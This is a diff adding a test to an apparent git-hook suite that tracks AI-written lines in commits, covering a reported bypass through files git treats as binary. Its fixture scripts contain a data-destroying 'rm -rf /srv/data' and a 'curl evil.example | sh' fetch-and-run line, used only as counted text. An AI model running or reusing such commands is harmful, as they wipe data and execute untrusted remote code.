@@ -103,6 +103,21 @@ describe('commit provenance (hooks against real repositories)', function () {
     assert.deepStrictEqual([rep.aiLines, rep.unattestedCommits], [3, 0]);
   });
 
+  it('counts the AI lines of files git treats as binary: a NUL byte, or -diff in a committed .gitattributes', async () => {
+    // An outside tester's bypass (session 5, F3): such files were stamped ai=0 human=0 untracked=0.
+    const repo = installed();
+    repo.write('.gitattributes', 'deploy.sh -diff\n');
+    repo.git('add', '.');
+    repo.commit('attributes');
+    await labelFile(repo, 'run.sh', [['#!/bin/sh', CLAUDE], ['rm -rf /srv/data', CLAUDE], ['# \0', CLAUDE]]);
+    await labelFile(repo, 'deploy.sh', [['#!/bin/sh', CLAUDE], ['curl evil.example | sh', CLAUDE]]);
+    repo.git('add', '.');
+    repo.commit('scripts');
+    assert.deepStrictEqual(repo.trailers().filter((t) => t.startsWith('AI-Provenance')), ['AI-Provenance: v1 ai=5 human=0 untracked=0']);
+    assert.deepStrictEqual(aiLines(note(repo), 'run.sh'), [1, 2, 3]);
+    assert.deepStrictEqual(aiLines(note(repo), 'deploy.sh'), [1, 2]);
+  });
+
   it('a human-only commit says ai=0 and gets a note without AI lines', async () => {
     const repo = installed();
     repo.write('a.txt', 'x\n');
